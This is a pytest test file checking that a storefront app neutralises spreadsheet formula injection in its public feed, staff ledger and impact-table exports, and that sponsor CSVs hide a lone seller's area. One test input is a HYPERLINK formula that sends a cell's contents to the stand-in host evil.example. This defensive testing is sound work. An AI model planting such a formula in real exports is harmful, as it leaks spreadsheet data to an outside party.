"""Spreadsheet formula injection (OWASP "CSV Injection"): a shop renamed to a formula is text
in every export: the staff impact table (CSV and XLSX), the ledger and the public feed."""
import csv
import io

import pytest
from openpyxl import load_workbook

from storefront.domain.spreadsheet import neutralise, safe_row
from storefront.extensions import db
from storefront.ledger import services as ledger

FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"Klik")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_that_starts_a_formula_is_quoted(start):
    assert neutralise(f"{start}1+1") == f"'{start}1+1"


def test_numbers_and_plain_text_are_kept():
    assert safe_row([-5000, 12, "Kue", "", None, "Mama = Ani"]) == [-5000, 12, "Kue", "", None,
                                                                    "Mama = Ani"]


@pytest.fixture
def formula_shop(make_seller, make_product, make_order):
    shop = make_seller()
    shop.name = FORMULA
    make_product(shop=shop, name="@SUM(1+1)")
    order = make_order(shop=shop, total=25_000)
    ledger.record_sale(shop.id, order.parts[0].id, 25_000)
    db.session.commit()
    return shop


def test_public_feed_csv(client, formula_shop):
    rows = list(csv.DictReader(io.StringIO(client.get("/feed/produk.csv").get_data(as_text=True))))
    assert rows[0]["brand"] == "'" + FORMULA and rows[0]["title"] == "'@SUM(1+1)"


def test_ledger_csv(client, login, make_staff, formula_shop):
    login(make_staff())
    rows = list(csv.reader(io.StringIO(client.get("/staf/pembayaran/ledger.csv").get_data(
        as_text=True))))
    assert rows[1][3] == "'" + FORMULA
    assert rows[1][5] == "25000"


def test_impact_csv_and_xlsx(client, login, make_staff, formula_shop):
    login(make_staff())
    text = client.get("/staf/dampak/tabel.csv").get_data(as_text=True)
    names = [row[1] for row in csv.reader(io.StringIO(text))][1:]
    assert names and all(name == "'" + FORMULA for name in names)
    book = load_workbook(io.BytesIO(client.get("/staf/dampak/tabel.xlsx").data))
    cells = [row[1] for row in book.active.iter_rows(min_row=2)]
    assert cells
    for cell in cells:
        assert cell.data_type == "s" and cell.value == "'" + FORMULA


def test_sponsor_csv_hides_a_seller_alone_in_her_area(client, login, make_staff, make_seller,
                                                      make_order):
    for n, (area, public) in enumerate([("Oebobo", True), ("Oebobo", True), ("Oebobo", False),
                                        ("Alak", False)]):
        shop = make_seller(area=area)
        shop.story_public = public
        ledger.record_sale(shop.id, make_order(shop=shop, total=10_000 + n).parts[0].id, 10_000)
    db.session.commit()
    login(make_staff())
    text = client.get("/staf/dampak/tabel.csv", query_string={"untuk": "sponsor"}).get_data(
        as_text=True)
    areas = {row[2] for row in csv.reader(io.StringIO(text))}
    assert "Alak" not in text and "Lainnya" in areas and "Oebobo" in areas
